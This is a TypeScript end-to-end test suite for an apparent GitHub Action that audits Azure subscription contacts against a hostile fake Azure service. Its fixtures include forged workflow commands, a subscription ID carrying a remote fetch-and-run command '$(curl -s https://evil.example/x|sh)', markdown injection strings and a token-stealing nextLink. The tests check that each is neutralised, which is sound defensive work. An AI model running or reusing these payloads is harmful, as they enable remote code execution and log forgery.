/**
 * End-to-end: the real bundle against a hostile Azure. The fake answers
 * with forged workflow commands, foreign nextLinks, IDs that are not GUIDs,
 * another subscription's data, addresses in error messages, reference
 * tricks, huge errors, endless listings and a subscription that never
 * answers; every output must stay safe, masked, bounded and timely.
 */
import assert from "node:assert/strict";
import { describe, it } from "node:test";
import {
  type Fake,
  type FakeSubscription,
  type FakeTenant,
  forever,
  guid,
  sampleTenant,
} from "../../test-support/fake/index.js";
import { fakeStarter } from "../../test-support/e2e.js";
import {
  type ActionRun,
  fakeInputs,
  runAction,
  runnerEnv,
} from "../../test-support/run-action.js";
import type { ReportRow } from "../../src/report/report-file.js";

const GUARD_MS = 100_000;

const startFake = fakeStarter();

function tenant(subscriptions: FakeSubscription[]): FakeTenant {
  return { ...sampleTenant(), subscriptions };
}

/** One subscription with a valid address: what a hostile listing wraps. */
function onePassing(): FakeTenant {
  return tenant([
    {
      subscriptionId: guid(1),
      displayName: "A",
      contact: { emails: "a@contoso.com" },
    },
  ]);
}

async function start(t: FakeTenant): Promise<Fake> {
  const fake = await startFake({ tenant: t });
  return fake;
}

function run(
  fake: Fake,
  inputs: Record<string, string> = {},
  env: Record<string, string> = {},
): Promise<ActionRun> {
  return runAction({ ...fakeInputs(fake), ...inputs }, runnerEnv(fake), {
    timeoutMs: GUARD_MS,
    env,
  });
}

function rowOf(result: ActionRun, id: string): ReportRow {
  const found = result.report?.subscriptions.find(
    (r) => r.subscriptionId === id,
  );
  assert.ok(found, `report row for ${id}`);
  return found;
}

/** Everything a reader of the run can see. */
function everything(result: ActionRun): string {
  return [
    result.stdout,
    result.stderr,
    result.summary,
    JSON.stringify(result.report ?? {}),
    JSON.stringify(result.outputs),
  ].join("\n");
}

const FORGED_CODE =
  "AuthorizationFailed\n::error title=Forged::pwned\n::add-mask::Prod";

describe("finding 1: nothing from Azure becomes a workflow command", () => {
  it("forged codes, plan names and names stay data; odd codes show as InvalidCode", async () => {
    const fake = await start(
      tenant([
        {
          subscriptionId: guid(1),
          displayName: "Prod ##[error]forged \u001b[31mred",
          behaviours: forever({
            kind: "status",
            status: 403,
            code: FORGED_CODE,
            message: "denied\n::warning::forged-message",
          }),
        },
        {
          subscriptionId: guid(2),
          displayName: "No contact",
          contact: null,
          pricings: [
            {
              name: "VirtualMachines\n::notice::forged-plan",
              pricingTier: "Standard",
            },
          ],
        },
        {
          subscriptionId: guid(3),
          displayName: "Not registered",
          behaviours: forever({
            kind: "status",
            status: 409,
            code: "Subscription Not Registered",
          }),
        },
      ]),
    );
    const result = await run(fake);
    assert.equal(result.exitCode, 1);
    for (const line of result.stdout.split(/\r?\n/)) {
      assert.ok(!/^\s*::(add-mask::Prod|warning::|notice::)/.test(line), line);
      assert.ok(!line.startsWith("::error title=Forged"), line);
      assert.ok(!line.includes("##[error]"), line);
      assert.ok(!line.includes("\u001b"), line);
    }
    assert.ok(!result.annotations.some((a) => a.title === "Forged"));
    const errored = rowOf(result, guid(1));
    assert.equal(errored.status, "error");
    assert.match(errored.reason, /InvalidCode/);
    assert.ok(!errored.reason.includes("::add-mask::"));
    // Showing a code is one thing; the verdict still reads Azure's code.
    const skipped = rowOf(result, guid(3));
    assert.equal(skipped.status, "skipped");
    assert.match(skipped.reason, /\(Subscription Not Registered\)/);
  });

  it("a forged code on the listing shows as InvalidCode", async () => {
    const fake = await start(tenant([]));
    fake.tenant.listing = forever({
      kind: "status",
      status: 400,
      code: FORGED_CODE,
    });
    const result = await run(fake);
    assert.equal(result.outputs.status, "error");
    const errors = result.report?.errors ?? [];
    assert.equal(errors.length, 1);
    assert.match(errors[0] ?? "", /: InvalidCode: /);
    assert.ok(
      !result.stdout.split("\n").some((l) => l.startsWith("::add-mask::Prod")),
    );
  });
});

describe("finding 2: the ARM token goes only to the Resource Manager origin", () => {
  it("a nextLink to another origin is refused before sending, and the run errs", async () => {
    const elsewhere = await start(tenant([]));
    const fake = await start(onePassing());
    fake.tenant.nextLink = `${elsewhere.armUrl}/subscriptions?api-version=2022-12-01&steal=1`;
    const result = await run(fake);
    assert.deepEqual(
      elsewhere.requests.filter((r) => r.withToken),
      [],
      "no request carried the token to the other origin",
    );
    assert.equal(elsewhere.requests.length, 0);
    assert.equal(result.outputs.status, "error");
    assert.equal(result.exitCode, 1);
    assert.match(
      (result.report?.errors ?? []).join("\n"),
      /Refused to send the Resource Manager token to https:\/\/127\.0\.0\.1:\d+/,
    );
    // The page already read is kept.
    assert.equal(rowOf(result, guid(1)).status, "pass");
  });
});

describe("finding 3: subscription IDs from Azure are checked", () => {
  it("a listed ID that is not a GUID is an error row with a safe placeholder", async () => {
    const evil = "$(curl -s https://evil.example/x|sh)";
    const fake = await start(
      tenant([
        { subscriptionId: evil, displayName: "Evil", contact: null },
        {
          subscriptionId: "id\n| injected | row |",
          displayName: "Evil 2",
          contact: null,
        },
        { subscriptionId: guid(1), displayName: "Fails", contact: null },
        { subscriptionId: guid(2), displayName: "Fails too", contact: null },
      ]),
    );
    const result = await run(fake);
    assert.equal(result.outputs["subscriptions-errored"], "2");
    assert.equal(result.outputs["subscriptions-failed"], "2");
    const ids = (result.report?.subscriptions ?? []).map(
      (r) => r.subscriptionId,
    );
    assert.deepEqual(ids.filter((id) => id.startsWith("invalid-")).sort(), [
      "invalid-subscription-id-1",
      "invalid-subscription-id-2",
    ]);
    assert.equal(rowOf(result, "invalid-subscription-id-1").status, "error");
    assert.ok(!result.summary.includes("$(curl"));
    assert.ok(!result.summary.includes("| injected |"));
    assert.match(result.summary, /for id in \\\n {2}\S+ \S+; do/);
    assert.deepEqual(JSON.parse(result.outputs["failed-subscriptions"] ?? ""), [
      guid(1),
      guid(2),
    ]);
    // No request was ever made with the bad IDs.
    const paths = fake.requests.map((r) => r.path).join("\n");
    assert.ok(!paths.includes("curl") && !paths.includes("injected"));
  });

  it("a named subscription answered with another one's data is an error, not a pass", async () => {
    const fake = await start(
      tenant([
        {
          subscriptionId: guid(1),
          displayName: "Named",
          contact: null,
          answerAs: guid(2),
        },
        {
          subscriptionId: guid(2),
          displayName: "Other",
          contact: { emails: "a@contoso.com" },
        },
      ]),
    );
    const result = await run(fake, { subscriptions: guid(1) });
    const named = rowOf(result, guid(1));
    assert.equal(named.status, "error");
    assert.match(named.reason, /MismatchedAnswer/);
    assert.equal(result.outputs["subscriptions-passed"], "0");
    assert.equal(result.exitCode, 1);
  });
});

describe("finding 4: mask-emails masks every address in every text", () => {
  it("addresses inside entries, error messages and names never appear whole", async () => {
    const fake = await start(
      tenant([
        {
          subscriptionId: guid(1),
          displayName: "Owner carol.secret@contoso.com",
          contact: { emails: "a@contoso.com bob.secret@contoso.com" },
        },
        {
          subscriptionId: guid(2),
          displayName: "Denied",
          behaviours: forever({
            kind: "status",
            status: 403,
            code: "AuthorizationFailed",
            message:
              "The client 'leaked.person@contoso.com' has no authorization.",
          }),
        },
      ]),
    );
    const result = await run(fake);
    const seen = everything(result);
    for (const secret of ["bob.secret", "carol.secret", "leaked.person"]) {
      assert.ok(!seen.includes(secret), `${secret} leaked`);
    }
    assert.match(rowOf(result, guid(2)).reason, /l\*\*\*@contoso\.com/);
    // An entry is masked as a whole: everything before its last `@`.
    assert.deepEqual(rowOf(result, guid(1)).invalidEmails, [
      "a***@contoso.com",
    ]);
  });
});

describe("masking covers every local part the validator accepts", () => {
  it("apostrophes, backticks, braces, quoted local parts and comments never appear whole", async () => {
    const fake = await start(
      tenant([
        {
          subscriptionId: guid(1),
          displayName: 'Team "john.smith"@contoso.com',
          contact: { emails: "mary.o'neil@contoso.com; zed`quint@contoso.com" },
          tags: { owner: "Bob <bob.jones(home)@contoso.com>" },
        },
        {
          subscriptionId: guid(2),
          displayName: "Denied",
          behaviours: forever({
            kind: "status",
            status: 403,
            code: "AuthorizationFailed",
            message: "The client '{vault}keeper@contoso.com' has no access.",
          }),
        },
      ]),
    );
    const result = await run(fake);
    const seen = everything(result);
    const secrets = ["mary.o", "neil", "zed`q", "quint", "john.", "smith"];
    for (const secret of [...secrets, "jones", "vault", "keeper"]) {
      assert.ok(!seen.includes(secret), `${secret} leaked`);
    }
    assert.deepEqual(rowOf(result, guid(1)).emails, [
      "m***@contoso.com",
      "z***@contoso.com",
    ]);
    assert.equal(rowOf(result, guid(1)).owner, "Bob <b***@contoso.com>");
    assert.match(rowOf(result, guid(2)).reason, /'\{v\*\*\*@contoso\.com'/);
  });
});

describe("finding 5: markdown neither links nor pings", () => {
  it("www., GH-, owner/repo#N, SHAs, entities and format characters are defused", async () => {
    const name =
      "www.evil.example/login GH-1 octo/repo#2 1a2b3c4d5e6f7a8b &#64;team &#35;1 \u202Etxt.exe\u200B";
    const fake = await start(
      tenant([{ subscriptionId: guid(1), displayName: name, contact: null }]),
    );
    const result = await run(fake);
    const s = result.summary;
    for (const raw of [
      "www.evil",
      "GH-1",
      "#2",
      "1a2b3c4d5e6f7a8b",
      "&#64;team",
      "&#35;1",
      "\u202E",
    ]) {
      assert.ok(
        !s.includes(raw),
        `${JSON.stringify(raw)} survived in the summary`,
      );
    }
    assert.ok(s.includes("www\u200B.evil"));
  });
});

describe("finding 7: sizes stay within GitHub's limits", () => {
  it("a 110,000-@ listing error and 300,000 invalid entries fit the summary and the annotations", async () => {
    const entries = Array.from({ length: 300_000 }, (_, i) => `bad${i}`);
    const fake = await start(
      tenant([
        {
          subscriptionId: guid(1),
          displayName: "Many invalid",
          contact: { emails: ["ok@contoso.com", ...entries].join(";") },
        },
      ]),
    );
    fake.tenant.pageSize = 1;
    fake.tenant.listing = [
      { kind: "delay", ms: 0 },
      ...forever({
        kind: "status",
        status: 400,
        code: "BadRequest",
        message: "@".repeat(110_000),
      }),
    ];
    fake.tenant.subscriptions.push({
      subscriptionId: guid(2),
      displayName: "Page 2",
      contact: null,
    });
    const result = await run(fake);
    assert.ok(
      Buffer.byteLength(result.summary) <= 1024 * 1024,
      `summary is ${Buffer.byteLength(result.summary)} bytes`,
    );
    assert.match(result.summary, /^## /);
    assert.ok(result.annotations.length > 0);
    for (const annotation of result.annotations) {
      assert.ok(
        annotation.message.length <= 4096,
        `annotation of ${annotation.message.length} characters`,
      );
    }
    assert.equal(rowOf(result, guid(1)).status, "pass");
  });
});

describe("finding 8: the listing cannot run forever", () => {
  it("an endless listing ends at the page cap as a run error, keeping what was listed", async () => {
    const fake = await start(onePassing());
    fake.tenant.pageSize = 1;
    fake.tenant.endlessListing = true;
    const result = await run(fake);
    assert.notEqual(result.exitCode, null, "the run ended by itself");
    assert.equal(result.outputs.status, "error");
    assert.match(
      (result.report?.errors ?? []).join("\n"),
      /stopped after 10000 pages/,
    );
    assert.equal(rowOf(result, guid(1)).status, "pass");
  });

  it("a slow endless listing ends at the listing deadline", async () => {
    const fake = await start(onePassing());
    fake.tenant.pageSize = 1;
    fake.tenant.endlessListing = true;
    fake.tenant.latencyMs = 50;
    const result = await run(
      fake,
      {},
      { CONTACT_CHECK_LISTING_DEADLINE_MS: "3000" },
    );
    assert.notEqual(result.exitCode, null, "the run ended by itself");
    assert.match(
      (result.report?.errors ?? []).join("\n"),
      /did not finish within 3 s/,
    );
    assert.equal(rowOf(result, guid(1)).status, "pass");
  });
});

describe("finding 9: one deadline covers all of a subscription's requests", () => {
  it("a named subscription that never answers ends at its deadline", async () => {
    const fake = await start(
      tenant([
        {
          subscriptionId: guid(1),
          displayName: "Hangs",
          contact: null,
          latencyMs: 60_000,
        },
      ]),
    );
    const result = await run(
      fake,
      { subscriptions: guid(1) },
      {
        CONTACT_CHECK_ATTEMPT_TIMEOUT_MS: "1000",
        CONTACT_CHECK_SUBSCRIPTION_DEADLINE_MS: "2500",
      },
    );
    const row = rowOf(result, guid(1));
    assert.equal(row.status, "error");
    assert.match(row.reason, /DeadlineExceeded/);
  });
});
